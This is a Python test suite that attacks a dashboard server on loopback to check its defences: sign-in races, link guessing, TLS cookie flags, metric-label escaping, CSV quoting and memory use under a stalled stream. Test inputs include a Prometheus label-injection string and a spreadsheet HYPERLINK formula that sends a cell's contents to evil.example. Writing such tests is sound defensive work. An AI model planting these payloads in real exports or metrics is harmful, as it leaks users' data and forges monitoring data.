"""Attacks on the dashboard that it holds, each pinned on a real aiohttp server on loopback:
one link posted many times at once, guessed links, metric labels and CSV cells written by
an agent, and a live stream whose reader never reads."""

from __future__ import annotations

import asyncio
import csv
import gc
import io
import secrets
import socket
import ssl
import tracemalloc
from http.cookies import SimpleCookie
from pathlib import Path
from typing import Any, cast

import aiohttp
import pytest
from prometheus_client.parser import text_string_to_metric_families

from bot.acl import Acl, Grant, Role
from bot.config.dashboard import DashboardSection
from bot.dashboard.access.signin import SignIns
from bot.dashboard.pages.metrics import Metrics
from bot.dashboard.pages.views import Views
from bot.dashboard.serving.server import DashboardServer
from fleet.ledger import Ledger
from fleet.ledger.stores.operators.dashboard import UsageSum
from fleet.timing.clock import ManualClock
from tests.polling import eventually
from tests.postgres_server import free_port
from tests.tls_cert import self_signed
from tests.unit.bot.dashboard.test_dashboard_server import ALICE, FLEET, FixedViews, signed_in

TOKEN_ENV = "FW_HELD_METRICS_TOKEN"
TOKEN = "held-metrics-token-0123456789abcdef"
SAME_ORIGIN = {"Sec-Fetch-Site": "same-origin"}
# Agent-chosen text that would end a Prometheus label and start a series of its own if it
# were written as it is.
FORGED = 'x"} 1e9\nfleetwarden_forged_total{agent="a'


def _usage_row(model: str) -> dict[str, Any]:
    return {
        "day": "2025-03-01",
        "agent": "coder-1",
        "host": "local",
        "provider": "anthropic",
        "model": model,
        "account": "",
        "requests": 1,
        "input_tokens": 1,
        "output_tokens": 1,
        "cache_read_tokens": 0,
        "cache_write_tokens": 0,
        "tokens": 2,
        "cost_usd": 0.0,
    }


def _agent(name: str, problems: list[str]) -> dict[str, Any]:
    return {
        "name": name,
        "host": "local",
        "state": "running",
        "pid": 4242,
        "heartbeat_age_seconds": 1.0,
        "model": "claude-haiku-4-5",
        "downgraded_from": None,
        "tokens_today": 0,
        "cost_today_usd": 0.0,
        "pacing": None,
        "problems": problems,
    }


class HostileViews(FixedViews):
    """Page data an agent had a hand in: model names in the usage rows and the metrics'
    sums, and a fleet page whose every rendering is new and large."""

    def __init__(self, models: list[str], fragment_size: int = 0) -> None:
        super().__init__()
        self.models = models
        self.fragment_size = fragment_size
        self.renders = 0

    async def fleet(self) -> dict[str, Any]:
        if not self.fragment_size:
            return await super().fleet()
        self.renders += 1  # a new fragment each time: none is ever sent twice
        agent = _agent("coder-1", [f"v{self.renders} " + "x" * self.fragment_size])
        totals = {**FLEET["totals"], "agents": 1, "by_state": {"running": 1}}
        return {**FLEET, "agents": [agent], "totals": totals}

    async def usage(self) -> dict[str, Any]:
        data = await super().usage()
        return {**data, "rows": [_usage_row(model) for model in self.models]}

    async def usage_after(self, after: int) -> tuple[list[Any], int]:
        if after:
            return [], after
        sums = [
            UsageSum("coder-1", "local", "anthropic", model, "", 1, 10, 2, 0, 0, 0.0)
            for model in self.models
        ]
        return sums, len(sums)


async def _serve(
    ledger: Ledger, clock: ManualClock, tmp_path: Path, views: FixedViews, **section: Any
) -> tuple[DashboardServer, SignIns, str]:
    signins = SignIns(ledger.dashboard, Acl([Grant(ALICE, Role.VIEWER)]), clock)
    listen = f"127.0.0.1:{free_port()}"
    settings = DashboardSection(listen=listen, metrics_token_env=TOKEN_ENV, **section).settings()
    server = DashboardServer(
        settings,
        views=cast(Views, views),
        signins=signins,
        metrics=Metrics(),
        state_dir=tmp_path,
        environ={TOKEN_ENV: TOKEN},
    )
    await server.start()
    scheme = "https" if settings.tls else "http"
    return server, signins, f"{scheme}://127.0.0.1:{server.port}"


def _ledger_files(where: Path) -> bytes:
    """Every byte of the ledger's SQLite files (its write-ahead log too)."""
    return b"".join(path.read_bytes() for path in where.rglob("ledger.db*"))


async def test_one_link_posted_twenty_times_at_once_opens_one_session(
    ledger: Ledger, clock: ManualClock, tmp_path: Path
) -> None:
    """Twenty browsers racing with one link: one is signed in, nineteen are refused and get
    no cookie, and the ledger holds one session."""
    server, signins, base = await _serve(ledger, clock, tmp_path, HostileViews([]))
    try:
        secret = await signins.issue("matrix", ALICE, ())
        assert secret is not None

        async def post() -> tuple[int, str | None]:
            async with (
                aiohttp.ClientSession() as one,
                one.post(
                    f"{base}/signin",
                    data={"link": secret},
                    headers=SAME_ORIGIN,
                    allow_redirects=False,
                ) as reply,
            ):
                return reply.status, reply.headers.get("Set-Cookie")

        answers = await asyncio.gather(*(post() for _ in range(20)))
        signed = [cookie for status, cookie in answers if status == 303]
        assert len(signed) == 1 and signed[0] is not None, answers
        assert all(cookie is None for status, cookie in answers if status != 303), answers
        assert len(await signins.live()) == 1
    finally:
        await server.stop()


async def test_guessed_links_never_sign_in_and_the_ledger_keeps_no_secret(
    ledger: Ledger, clock: ManualClock, tmp_path: Path, http: aiohttp.ClientSession
) -> None:
    """Two hundred well-formed guesses are refused with no cookie; a link carries 256 bits
    (43 URL-safe characters, never twice the same), and the ledger's file holds neither a
    link's secret nor a session's cookie, only their digests."""
    server, signins, base = await _serve(ledger, clock, tmp_path, HostileViews([]))
    try:
        issued = [await signins.issue("matrix", ALICE, ()) for _ in range(50)]
        links = [secret for secret in issued if secret is not None]
        assert len(set(links)) == 50
        alphabet = set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")
        assert all(len(link) == 43 and set(link) <= alphabet for link in links)
        # Random throughout: no position is the same in fifty links.
        assert all(len({link[i] for link in links}) > 1 for i in range(43))
        for _ in range(200):
            guess = secrets.token_urlsafe(32)
            async with http.post(
                f"{base}/signin", data={"link": guess}, headers=SAME_ORIGIN, allow_redirects=False
            ) as reply:
                assert reply.status == 403 and "Set-Cookie" not in reply.headers
        assert await signins.live() == set()
        async with http.post(
            f"{base}/signin", data={"link": links[0]}, headers=SAME_ORIGIN, allow_redirects=False
        ) as reply:
            assert reply.status == 303  # guessing locked nobody out
            cookie = reply.cookies[next(iter(reply.cookies))].value
    finally:
        await server.stop()
    stored = _ledger_files(tmp_path)
    assert stored, "the ledger's SQLite file was not found"
    for secret in (*links, cookie):
        assert secret.encode() not in stored


async def test_in_tls_mode_the_cookie_is_secure_host_only_and_nothing_is_served_plain(
    ledger: Ledger, clock: ManualClock, tmp_path: Path
) -> None:
    """Serving TLS itself, the dashboard answers no plain HTTP on its port, says HSTS, and
    its session cookie is `__Host-` (Secure, Path=/, no Domain: this origin only), HttpOnly
    and SameSite=Strict."""
    cert, key = self_signed(tmp_path, "dashboard")
    views = HostileViews([])
    server, signins, base = await _serve(
        ledger, clock, tmp_path, views, tls_cert=str(cert), tls_key=str(key)
    )
    trust = ssl.create_default_context(cafile=str(cert))
    try:
        async with aiohttp.ClientSession() as plain:
            with pytest.raises(aiohttp.ClientError):
                async with plain.get(base.replace("https:", "http:") + "/api/fleet") as reply:
                    await reply.read()
        secret = await signins.issue("matrix", ALICE, ())
        assert secret is not None
        async with (
            aiohttp.ClientSession(connector=aiohttp.TCPConnector(ssl=trust)) as tls,
            tls.post(
                f"{base}/signin", data={"link": secret}, headers=SAME_ORIGIN, allow_redirects=False
            ) as reply,
        ):
            assert reply.status == 303
            assert reply.headers["Strict-Transport-Security"].startswith("max-age=")
            jar = SimpleCookie(reply.headers["Set-Cookie"])
    finally:
        await server.stop()
    [(name, cookie)] = jar.items()
    assert name.startswith("__Host-"), name
    assert cookie["secure"] and cookie["httponly"] and cookie["samesite"] == "Strict"
    assert cookie["path"] == "/" and cookie["domain"] == ""


async def test_agent_text_in_a_metric_label_forges_no_series(
    ledger: Ledger, clock: ManualClock, tmp_path: Path, http: aiohttp.ClientSession
) -> None:
    """Model names with quotes, backslashes, braces and line breaks are escaped in
    `/metrics`: the text parses, and no series the agent wrote appears."""
    models = [FORGED, "back\\slash", "brace}{", "line\nbreak"]
    server, _, base = await _serve(ledger, clock, tmp_path, HostileViews(models))
    try:
        auth = {"Authorization": f"Bearer {TOKEN}"}
        async with http.get(f"{base}/metrics", headers=auth) as reply:
            assert reply.status == 200
            text = await reply.text()
    finally:
        await server.stop()
    families = {family.name: family for family in text_string_to_metric_families(text)}
    assert not any("forged" in name for name in families), sorted(families)
    samples = [
        s for s in families["fleetwarden_model_requests"].samples if s.name.endswith("_total")
    ]
    assert sum(s.value for s in samples) == len(models)
    assert {s.labels["agent"] for s in samples} == {"coder-1"}
    for line in text.splitlines():
        assert not line.startswith("fleetwarden_forged"), line


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
async def test_a_csv_cell_an_agent_starts_with_a_formula_sign_is_quoted(
    start: str, ledger: Ledger, clock: ManualClock, tmp_path: Path, http: aiohttp.ClientSession
) -> None:
    """`/usage.csv`: a model name starting with = + - or @ reaches the spreadsheet as text,
    never as a formula; what it said is still there."""
    model = f'{start}HYPERLINK("http://evil.example/?"&A1,"open")'
    server, signins, base = await _serve(ledger, clock, tmp_path, HostileViews([model]))
    try:
        await signed_in(http, base, signins)
        async with http.get(f"{base}/usage.csv") as reply:
            assert reply.status == 200
            rows = list(csv.DictReader(io.StringIO(await reply.text())))
    finally:
        await server.stop()
    [row] = rows
    cell = row["model"]
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    assert cell.endswith(model)


async def test_a_reader_that_never_reads_its_stream_costs_bounded_memory(
    ledger: Ledger,
    clock: ManualClock,
    tmp_path: Path,
    http: aiohttp.ClientSession,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A signed-in client opens `/events` and reads nothing while the page changes two
    hundred times, 200 kB each: the server keeps the newest fragment for it and what the
    socket holds, not the 40 MB it could not send."""
    monkeypatch.setattr("bot.dashboard.serving.live.TICKS", {"fleet": 0.005})
    views = HostileViews([], fragment_size=200_000)
    server, signins, base = await _serve(ledger, clock, tmp_path, views)
    reader = socket.socket()
    reader.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # before connect: it holds
    tracemalloc.start()
    try:
        await signed_in(http, base, signins)
        cookie = "; ".join(f"{c.key}={c.value}" for c in http.cookie_jar)
        reader.setblocking(False)
        loop = asyncio.get_running_loop()
        await loop.sock_connect(reader, ("127.0.0.1", server.port or 0))
        request = (
            f"GET /events?topic=fleet HTTP/1.1\r\nHost: 127.0.0.1:{server.port}\r\n"
            f"Cookie: {cookie}\r\nAccept: text/event-stream\r\n\r\n"
        )
        await loop.sock_sendall(reader, request.encode())
        await eventually(lambda: views.renders >= 20, "the stream's first fragments")
        gc.collect()  # what is held, not garbage the collector has not reached yet
        before, _ = tracemalloc.get_traced_memory()
        await eventually(lambda: views.renders >= 220, "two hundred more fragments", within=60)
        gc.collect()
        after, _ = tracemalloc.get_traced_memory()
        assert after - before < 8_000_000, f"{(after - before) / 1e6:.1f} MB more held"
        assert server.hub.watching == 1  # the stream is still open, only not read
    finally:
        tracemalloc.stop()
        reader.close()  # first: the server's blocked write fails, and its stream ends
        await server.stop()
